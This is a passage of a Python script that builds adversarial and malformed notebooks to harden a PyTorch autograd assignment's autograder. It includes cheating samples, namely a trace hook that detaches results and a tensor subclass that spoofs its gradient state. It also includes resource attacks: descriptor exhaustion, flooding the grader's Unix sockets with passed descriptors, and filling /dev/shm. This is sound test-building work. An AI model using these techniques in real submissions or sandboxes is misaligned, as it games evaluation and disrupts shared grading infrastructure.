                            _module.run_call = _forge(_module.run_call)

                    def _rewrite(frame, event, arg):
                        ret = frame.f_locals.get("ret")
                        if isinstance(ret, torch.Tensor) and ret.requires_grad:
                            frame.f_locals["ret"] = ret.detach()
                        return _rewrite

                    def _tracer(frame, event, arg):
                        return _rewrite if frame.f_code.co_name == "run_call" else None

                    _sys.settrace(_tracer)
                    torch.is_grad_enabled = lambda: True
                    """
                ),
            ),
        ),
    ),
    Spec(
        "tensor_subclass_spoofs_facts.ipynb",
        "predict_no_grad returns an attached result as a Tensor subclass named builtins.Tensor whose requires_grad, "
        "grad_fn and is_leaf properties say detached; grad_f1_analytic's first tensor claims an infinite shape",
        (
            Replace(
                "ex5-solution",
                "predict_no_grad",
                src(
                    '''
                    class Tensor(torch.Tensor):
                        """Adversarial: says it is a detached leaf, whatever it is."""

                        requires_grad = property(lambda self: False)
                        grad_fn = property(lambda self: None)
                        is_leaf = property(lambda self: True)


                    Tensor.__module__ = "builtins"


                    def predict_no_grad(x, w, b):
                        """Adversarial: the prediction with its history, dressed as a detached plain tensor."""
                        return (x @ w + b).as_subclass(Tensor)
                    '''
                ),
            ),
            Replace(
                "ex1-solution",
                "grad_f1_analytic",
                src(
                    '''
                    class InfiniteShape(torch.Tensor):
                        shape = property(lambda self: [float("inf")])


                    def grad_f1_analytic(t, u):
                        """Adversarial: the right values, the first claiming a shape of infinity."""
                        return (2 * t.detach()).as_subclass(InfiniteShape), 1 / u.detach()
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "holds_every_descriptor.ipynb",
        "a top-level cell opens /dev/null until the descriptor limit and keeps every descriptor",
        (
            Add(
                "imports",
                "adversarial-hold-descriptors",
                src(
                    """
                    # Adversarial: leave no descriptor free for anything that comes after the notebook.
                    import os as _os

                    _held = []
                    while True:
                        try:
                            _held.append(_os.open("/dev/null", _os.O_RDONLY))
                        except OSError:
                            break
                    """
                ),
            ),
        ),
    ),
    Spec(
        "surrogates_and_descriptor_flood.ipynb",
        "accuracy raises with a lone surrogate in its message; a cell floods the control socket with 4000 "
        "descriptors; a cell writes into /dev and fills /dev/shm",
        (
            Replace(
                "ex7-solution",
                "accuracy",
                src(
                    '''
                    def accuracy(logits, y):
                        """Adversarial: a message no UTF-8 file can hold."""
                        raise ValueError("bad \\ud800 \\udcff end")
                    '''
                ),
            ),
            Add(
                "imports",
                "adversarial-descriptor-flood",
                src(
                    """
                    # Adversarial: send the grader a flood of descriptors over every Unix socket this process holds.
                    import array as _array, os as _os, socket as _socket

                    _null = _os.open("/dev/null", _os.O_RDONLY)
                    for _name in _os.listdir("/proc/self/fd"):
                        try:
                            _sock = _socket.socket(fileno=_os.dup(int(_name)))
                        except OSError:
                            continue
                        if _sock.family == _socket.AF_UNIX:
                            _frame = b'{"ev":"pad"}'
                            _frame = len(_frame).to_bytes(4, "big") + (0).to_bytes(4, "big") + _frame
                            try:
                                for _i in range(len(_frame)):  # one byte a message, four descriptors on each
                                    for _ in range(80):
                                        _sock.sendmsg([b""], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, _array.array("i", [_null] * 4))])
                                    _sock.send(_frame[_i : _i + 1])
                            except OSError:
                                pass
                        _sock.detach()
                    """
                ),
            ),
            Add(
                "ex7-check",
                "adversarial-dev-and-shm",
                src(
                    """
                    # Adversarial: leave a file in /dev for the next notebook, fill /dev/shm.
                    for _path, _size in (("/dev/left-behind", 1 << 20), ("/dev/shm/fill", 1 << 30)):
                        try:
                            with open(_path, "wb") as _f:
                                for _ in range(_size >> 20):
                                    _f.write(b"x" * (1 << 20))
                        except OSError as _exc:
                            print(_path, _exc)
                    raise ValueError("a cell with \\ud800 in its error")
                    """
                ),
            ),
        ),
    ),
]

BROKEN = {
    "malformed_json.ipynb": "correct.ipynb cut in the middle of grad_f3's source, then git conflict markers",
    "truncated_notebook.ipynb": "the first 60% of correct.ipynb's bytes",
    "nbformat_v3.ipynb": "a valid nbformat 3 notebook (worksheets) with one code cell",
    "not_a_notebook.ipynb": "a JSON list (of cell-like objects), not a notebook",
}


# -- building ----------------------------------------------------------------------


def load_correct() -> nbformat.NotebookNode:
    nb = nbformat.read(CORRECT, as_version=4)
    assert nb.metadata == METADATA, f"correct.ipynb's metadata changed: {nb.metadata}"
    return nb


def replace_function(source: str, name: str, new: str) -> str:
    tree = ast.parse(source)
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and node.name == name:
            start = min([node.lineno] + [d.lineno for d in node.decorator_list])
            lines = source.split("\n")
            return "\n".join(lines[: start - 1] + new.split("\n") + lines[node.end_lineno :])
    raise KeyError(f"no top-level function {name}() in the cell")


def index_of(nb: nbformat.NotebookNode, cell_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.get("id") == cell_id:
            return i
    raise KeyError(f"no cell with id {cell_id!r}")


def build(spec: Spec, correct: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = copy.deepcopy(correct)
    for change in spec.changes:
        if isinstance(change, Replace):
            cell = nb.cells[index_of(nb, change.cell)]
            assert cell.cell_type == "code"
            cell.source = replace_function(cell.source, change.name, change.source)
        elif isinstance(change, Add):
            new = nbformat.v4.new_code_cell(source=change.source)
            new["id"] = change.id
            nb.cells.insert(index_of(nb, change.after) + 1, new)
        else:
            raise TypeError(change)
    return nb


def finish(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb.metadata = copy.deepcopy(METADATA)
    nb.nbformat, nb.nbformat_minor = 4, 5
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = []
            cell.execution_count = None
    return nb


def write_nb(nb: nbformat.NotebookNode, name: str) -> Path:
    nbformat.validate(nb)
    path = OUT / name
    path.write_text(nbformat.writes(nb, version=4) + "\n", encoding="utf-8")
    return path


def compile_cells(nb: nbformat.NotebookNode, name: str) -> None:
    """Syntax check only: compile() builds a code object and runs nothing."""
    for cell in nb.cells:
        if cell.cell_type == "code":
            compile(cell.source, f"<{name} cell {cell.get('id')}>", "exec")


def diff_summary(spec: Spec, nb: nbformat.NotebookNode, correct: nbformat.NotebookNode) -> str:
    before = {c.id: c for c in correct.cells}
    after = {c.id: c for c in nb.cells}
    added = [i for i in after if i not in before]
    removed = [i for i in before if i not in after]
    changed = {}
    for cell_id, cell in after.items():
        if cell_id in before and (cell.source != before[cell_id].source or cell.cell_type != before[cell_id].cell_type):
            diff = list(difflib.unified_diff(before[cell_id].source.splitlines(), cell.source.splitlines(), n=0))
            plus = sum(1 for line in diff if line.startswith("+") and not line.startswith("+++"))
            minus = sum(1 for line in diff if line.startswith("-") and not line.startswith("---"))
            changed[cell_id] = (plus, minus)
    want_added = [c.id for c in spec.changes if isinstance(c, Add)]
    want_changed = sorted({c.cell for c in spec.changes if isinstance(c, Replace)})
    assert not removed, f"{spec.name}: cells removed: {removed}"
    assert added == want_added, f"{spec.name}: added {added}, expected {want_added}"
    assert sorted(changed) == want_changed, f"{spec.name}: changed {sorted(changed)}, expected {want_changed}"
    # the order of the original cells is kept
    assert [i for i in after if i in before] == list(before), f"{spec.name}: cells reordered"
    assert nb.metadata == METADATA
    parts = [f"+cell {i} ({len(after[i].source.splitlines())} lines)" for i in added]
    parts += [
        f"~cell {i} (+{p} -{m}: {', '.join(c.name for c in spec.changes if isinstance(c, Replace) and c.cell == i)})"
        for i, (p, m) in changed.items()
    ]
    return "; ".join(parts)


def write_broken(correct_bytes: bytes) -> None:
    text = correct_bytes.decode("utf-8")
    cut = text.index("def grad_f3(x, y, z):") + len("def grad_f3(x, y")
    garbage = (
        "\n<<<<<<< HEAD\n"
        '    "    return L.detach(), x.grad, y.grad, z.grad"\n'
        "=======\n"
        '    "    return L, x.grad, y.grad, z.grad\\n",\n'
        ">>>>>>> origin/main\n"
        "}}]] {{ not json at all\n"
    )
    (OUT / "malformed_json.ipynb").write_text(text[:cut] + garbage, encoding="utf-8")

    (OUT / "truncated_notebook.ipynb").write_bytes(correct_bytes[: int(len(correct_bytes) * 0.6)])

    v3 = nbformat.v3
    nb3 = v3.new_notebook(
        name="nbformat_v3",
        metadata={"grader": {"assignment": "autograd-basics"}},
        worksheets=[
            v3.new_worksheet(
                cells=[
                    v3.new_code_cell(
                        input="import torch\n\n\ndef f1(t, u):\n    return t.pow(2).sum() + u.log().sum()",
                        prompt_number=None,
                    )
                ]
            )
        ],
    )
    nbformat.validate(nb3, version=3)
    (OUT / "nbformat_v3.ipynb").write_text(nbformat.v3.writes_json(nb3) + "\n", encoding="utf-8")

    cells = [{"cell_type": "code", "metadata": {}, "source": "import torch\n", "outputs": [], "execution_count": None}]
    (OUT / "not_a_notebook.ipynb").write_text(json.dumps(cells, indent=1) + "\n", encoding="utf-8")


def check_broken() -> None:
    for name in ("malformed_json.ipynb", "truncated_notebook.ipynb"):
        try:
            json.loads((OUT / name).read_bytes().decode("utf-8", "replace"))
        except ValueError:
            pass
        else:
            raise AssertionError(f"{name} parses as JSON")
    doc = json.loads((OUT / "nbformat_v3.ipynb").read_text())
    assert doc["nbformat"] == 3 and "worksheets" in doc
    assert isinstance(json.loads((OUT / "not_a_notebook.ipynb").read_text()), list)


def check_expected(names: list[str]) -> None:
    """expected.yaml has one entry per notebook, in the schema tests/adversarial/test_adversarial.py reads."""
    if not EXPECTED.exists():
        print("(no expected.yaml yet)")
        return
    import yaml

    keys = {"does", "exit", "error", "score_at_most", "items", "limits", "untouched", "listener"}
    statuses = {"failed", "error", "timeout", "crashed", "missing"}
    points = {
        "e1.value": 5,
        "e1.autograd": 10,
        "e1.analytic": 5,
        "e2.grads": 15,
        "e3.retain_grad": 10,
        "e4.grads": 10,
        "e5.no_grad": 5,
        "e5.freeze": 5,
        "e6.sgd_step": 15,
        "e7.train_step": 10,
        "e7.accuracy": 5,
        "e7.train_logreg": 5,
    }
    limit_names = {"time limit", "memory limit", "process limit", "output truncated", "exited", "disk limit"}
    expected = yaml.safe_load(EXPECTED.read_text(encoding="utf-8"))
    assert sorted(expected) == sorted(names), (
        f"expected.yaml and notebooks/ differ: {sorted(set(expected) ^ set(names))}"
    )
    for name, entry in expected.items():
        assert set(entry) <= keys, (name, set(entry) - keys)
        assert isinstance(entry.get("does"), str) and entry["exit"] in (0, 2), name
        if entry["exit"] == 2:
            assert isinstance(entry.get("error"), str), name
            continue
        items = entry.get("items") or {}
        for item, status in items.items():
            assert item in points and status in statuses, (name, item, status)
        # an item that must not pass loses at least its failing parts; one that errs, times
        # out, crashes or is missing loses everything
        whole = sum(points[i] for i, s in items.items() if s != "failed")
        assert entry["score_at_most"] <= 100 - whole, (name, entry["score_at_most"])
        if not items:
            assert entry["score_at_most"] == 100, name
        assert set(entry.get("limits") or []) <= limit_names, (name, entry.get("limits"))
    print(f"expected.yaml: {len(expected)} entries, consistent with the notebooks")


def main() -> int:
    OUT.mkdir(exist_ok=True)
    correct = load_correct()
    correct_bytes = CORRECT.read_bytes()
    names = []
    print(f"{'notebook':<42} changes against correct.ipynb")
    for spec in SPECS:
        nb = finish(build(spec, correct))
        compile_cells(nb, spec.name)
        summary = diff_summary(spec, nb, correct)
        path = write_nb(nb, spec.name)
        # what was written reads back as the same notebook
        again = nbformat.read(path, as_version=4)
        nbformat.validate(again)
        assert again == nb, spec.name
        names.append(spec.name)
        print(f"{spec.name:<42} {summary}  [{path.stat().st_size} bytes]")
    write_broken(correct_bytes)
    check_broken()
    for name, does in BROKEN.items():
        names.append(name)
        print(f"{name:<42} broken: {does}  [{(OUT / name).stat().st_size} bytes]")
    stray = sorted(p.name for p in OUT.iterdir() if p.name not in names)
    assert not stray, f"files in notebooks/ that this script does not write: {stray}"
    check_expected(names)
    return 0


if __name__ == "__main__":
    sys.exit(main())
